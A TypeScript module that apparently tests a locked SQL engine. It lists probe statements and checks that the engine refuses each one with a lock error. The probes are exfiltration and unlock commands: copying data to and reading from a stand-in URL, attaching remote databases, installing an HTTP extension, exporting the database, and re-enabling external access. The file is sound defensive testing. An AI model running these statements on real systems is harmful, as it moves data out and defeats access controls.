import type { Db } from './port.ts';

/** What the engine is asked to do so that it refuses: each would send, write or fetch something, or open the lock. */
export const ENGINE_LEAKS = {
  'engine-read-address': "select * from read_csv('https://example.invalid/rows.csv')",
  'engine-read-file': "select * from read_csv('other.csv')",
  'engine-list-files': "select * from glob('*')",
  'engine-copy-address': "copy (select 1) to 'https://example.invalid/rows.csv'",
  'engine-copy-file': "copy (select 1) to 'rows.csv'",
  'engine-export': "export database 'everything'",
  'engine-attach-address': "attach 'https://example.invalid/rows.db' as leak",
  'engine-attach-file': "attach 'rows.db' as leak",
  // Installing is a note to itself for this engine, which only loading would follow with a request.
  'engine-load': "install httpfs from 'https://example.invalid'; load httpfs",
  'engine-unlock': 'set enable_external_access = true',
  'engine-reset': 'reset allowed_paths',
} as const;

export type EngineLeak = keyof typeof ENGINE_LEAKS;

/** What became of one attempt; `message` is what the engine said, in its own words. */
export interface EngineRefusal {
  readonly code: EngineLeak;
  /** `refused`: by the lock; `open`: it went through, or failed for another reason than the lock. */
  readonly state: 'refused' | 'open';
  readonly message: string;
}

/** How the engine says that its lock, and not chance, refused something. */
const LOCK_WORDS = /disabled (?:by|through) configuration|configuration has been locked/i;

/** Tries every leak on a locked engine; none of them names or holds a row. */
export async function tryEngineLeaks(db: Db): Promise<readonly EngineRefusal[]> {
  const refusals: EngineRefusal[] = [];
  for (const [code, sql] of entriesOf(ENGINE_LEAKS)) refusals.push(await tryLeak(db, code, sql));
  return refusals;
}

async function tryLeak(db: Db, code: EngineLeak, sql: string): Promise<EngineRefusal> {
  try {
    await db.query(sql);
    return { code, state: 'open', message: '' };
  } catch (error) {
    const message = firstLine(error instanceof Error ? error.message : String(error));
    return { code, state: LOCK_WORDS.test(message) ? 'refused' : 'open', message };
  }
}

function firstLine(text: string): string {
  return text.split('\n')[0] ?? '';
}

function entriesOf(leaks: typeof ENGINE_LEAKS): readonly (readonly [EngineLeak, string])[] {
  const codes: readonly EngineLeak[] = Object.keys(leaks).filter((code): code is EngineLeak => code in leaks);
  return codes.map((code) => [code, leaks[code]]);
}
